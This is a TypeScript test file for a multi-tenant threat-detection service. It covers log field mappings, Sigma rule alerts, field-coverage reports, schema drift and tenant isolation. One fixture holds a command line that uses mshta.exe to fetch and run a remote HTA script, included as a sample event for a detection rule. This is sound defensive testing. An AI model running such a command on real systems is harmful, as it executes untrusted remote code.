import type { Actor } from '@vedette/identity';
import { dateFrom, systemClock, type Uuid } from '@vedette/kernel';
import { openTestDatabase, twoTenants, type TestDatabase } from '@vedette/testing';
import { loadRules } from '@vedette/sigma';
import { Evaluation } from '../evaluation/evaluation';
import { actorOf } from '../fixtures/actor-of';
import { plansOf } from '../fixtures/plans';
import { mshtaRule, processCreation } from '../fixtures/windows-events';
import { Segments } from '../ingest/segments';
import { hearing, MappingReport } from './mapping-report';
import { Mappings } from './mappings';
import { SchemaDrift } from './schema-drift';

const DAY = 86_400_000;
let db: TestDatabase;
let acme: Actor;
let globex: Actor;
let mappings: Mappings;
beforeAll(async () => {
  db = await openTestDatabase();
  mappings = new Mappings({ database: db.database });
});
afterAll(() => db?.close());
beforeEach(async () => {
  const tenants = await twoTenants(db);
  acme = actorOf(tenants.acme);
  globex = actorOf(tenants.globex);
});

async function send(actor: Actor, events: readonly unknown[], { source = 'edr' } = {}): Promise<void> {
  await new Segments({ database: db.database }).ingest(actor, { source, frames: events.map((event) => Buffer.from(JSON.stringify(event))), rejected: [] });
  const evaluation = new Evaluation({ database: db.database, plans: plansOf(db.database, [mshtaRule]) });
  const jobs = await db.database.tenant(actor, (tx) => tx.sql<{ id: Uuid; payload: { segmentId: string; day: string } }>`select id, payload from outbox where name = 'detection.evaluate-segment' order by id`);
  for (const { id, payload } of jobs) await evaluation.evaluateSegment({ tenantId: actor.tenantId, principal: 'job:spec', outboxId: id, payload });
}
const alertsOf = (actor: Actor) => db.database.tenant(actor, (tx) => tx.sql<{ entity: string }>`select entity from alerts`);
/** What an agent of the tenant's own making sends. */
const homemade = { event_channel: 'Microsoft-Windows-Sysmon/Operational', code: 1, machine: 'ws-9', proc: { path: 'C:\\Windows\\System32\\mshta.exe', args: 'mshta.exe http://203.0.113.8/a.hta' } };
const renames = [
  { from: 'event_channel', to: 'Channel' }, { from: 'code', to: 'EventID' }, { from: 'machine', to: 'Computer' },
  { from: 'proc.path', to: 'Image' }, { from: 'proc.args', to: 'CommandLine' },
];

describe('a mapping', () => {
  it('makes rules hear a log of the tenant\'s own, from the next segment on', async () => {
    await send(acme, [homemade]);
    expect(await alertsOf(acme)).toEqual([]);
    const [before] = await mappings.preview(acme, { source: 'edr', renames: [], kind: null });
    expect(before).toMatchObject({ kind: null, problem: null });
    const [after] = await mappings.preview(acme, { source: 'edr', renames, kind: null });
    expect(after).toMatchObject({ kind: 'windows/sysmon', entity: { kind: 'host', value: 'ws-9' }, ecs: { 'process.executable': homemade.proc.path }, ocsf: { uid: 1007 } });
    expect(await alertsOf(acme)).toEqual([]);
    await mappings.save(acme, { source: 'edr', renames, kind: null, note: 'our own agent' });
    await send(acme, [homemade]);
    expect(await alertsOf(acme)).toEqual([{ entity: 'ws-9' }]);
    await send(acme, [homemade], { source: 'other' });
    await mappings.remove(acme, 'edr');
    await send(acme, [{ ...homemade, machine: 'ws-10' }]);
    expect(await alertsOf(acme)).toEqual([{ entity: 'ws-9' }]);
  });

  it('tries lines that somebody pastes, text too', async () => {
    const lines = ['<86>Nov 20 11:59:58 bastion sshd[812]: Failed password for root from 203.0.113.9 port 4022 ssh2', '{broken'];
    const [ssh, broken] = await mappings.preview(acme, { source: 'new', renames: [], kind: null }, lines);
    expect(ssh).toMatchObject({ kind: 'linux/sshd', ecs: { 'source.ip': '203.0.113.9' } });
    expect(broken).toMatchObject({ problem: expect.any(String) });
  });

  it('is refused with what is wrong with it', async () => {
    const save = (change: object) => mappings.save(acme, { source: 'edr', renames: [], kind: null, ...change });
    await expect(save({ renames: [{ from: 'a', to: 'x' }, { from: 'b', to: 'x' }] })).rejects.toMatchObject({ code: 'mapping.invalid', facts: { reason: 'two fields are renamed to x' } });
    await expect(save({ renames: [{ from: 'a', to: '__proto__' }] })).rejects.toMatchObject({ code: 'mapping.invalid' });
    await expect(save({ kind: 'Not A Kind' })).rejects.toMatchObject({ code: 'mapping.invalid' });
    await expect(save({ source: 'A B' })).rejects.toMatchObject({ code: 'source.malformed' });
    await expect(mappings.remove(acme, 'none')).rejects.toMatchObject({ code: 'mapping.not_found' });
    await expect(mappings.save(actorOf(acme, ['source:read']), { source: 'edr', renames: [], kind: null })).rejects.toMatchObject({ code: 'auth.forbidden' });
  });
});

describe('what sources send', () => {
  it('is compared with what rules need', async () => {
    await db.catalog.sql`
      insert into rule_packs (id, title, licence, origin, checksum, rules, refused) values ('spec', 'spec', 'x', 'x', 'x', 1, 0) on conflict do nothing`;
    await db.catalog.sql`
      insert into rules (pack_id, rule_id, title, level, author, licence, path, yaml) values ('spec', 'm', 'Mshta', 'high', 'x', 'x', 'm.yml', ${mshtaRule}) on conflict do nothing`;
    const report = new MappingReport({ database: db.database });
    expect(await report.of(acme)).toMatchObject({ reached: 0, deaf: [] });
    const { CommandLine: _, ...without } = processCreation(systemClock.now());
    await send(acme, [without]);
    expect(await report.of(acme)).toMatchObject({ reached: 1, able: 0, deaf: [{ source: 'edr', kind: 'windows/sysmon', level: 'high', missing: ['CommandLine'] }] });
    await send(acme, [processCreation(systemClock.now())]);
    expect(await report.of(acme)).toMatchObject({ reached: 1, able: 1, deaf: [] });
    expect(await report.of(globex)).toMatchObject({ reached: 0 });
  });

  it('is compared under the names that a log has for the fields', () => {
    const { rules } = loadRules([{ origin: 'a', text: mshtaRule }]);
    const security = { source: 'dc', kind: 'windows/security', fields: ['NewProcessName', 'EventID'] };
    expect(hearing(rules, [security]).deaf).toMatchObject([{ missing: ['CommandLine'] }]);
    expect(hearing(rules, [{ ...security, fields: ['NewProcessName', 'CommandLine'] }])).toMatchObject({ able: 1 });
    expect(hearing(rules, [{ source: 'web', kind: 'web', fields: [] }])).toMatchObject({ reached: 0 });
  });

  it('is news when it changes', async () => {
    await send(acme, [{ a: 1, b: 2 }]);
    expect(await new SchemaDrift({ database: db.database }).recent(acme)).toEqual([]);
    const ago = dateFrom(systemClock.now() - 2 * DAY);
    await db.database.tenant(acme, (tx) => tx.sql`update source_fields set first_seen_at = ${ago}, last_seen_at = ${ago}`);
    await send(acme, [{ a: 1, c: { d: 3 } }]);
    const drift = await new SchemaDrift({ database: db.database }).recent(acme);
    expect(drift.map(({ source, field, change }) => `${source} ${field} ${change}`).sort()).toEqual(['edr b disappeared', 'edr c appeared', 'edr c.d appeared']);
    expect(await new SchemaDrift({ database: db.database }).recent(globex)).toEqual([]);
  });
});

describe('another tenant', () => {
  it('cannot list, read or change a mapping', async () => {
    await mappings.save(acme, { source: 'edr', renames, kind: null });
    expect(await mappings.list(globex)).toEqual([]);
    await expect(mappings.remove(globex, 'edr')).rejects.toMatchObject({ code: 'mapping.not_found' });
    await send(acme, [homemade]);
    expect(await mappings.preview(globex, { source: 'edr', renames: [], kind: null })).toEqual([]);
    expect(await mappings.list(acme)).toMatchObject([{ source: 'edr', renames }]);
  });
});
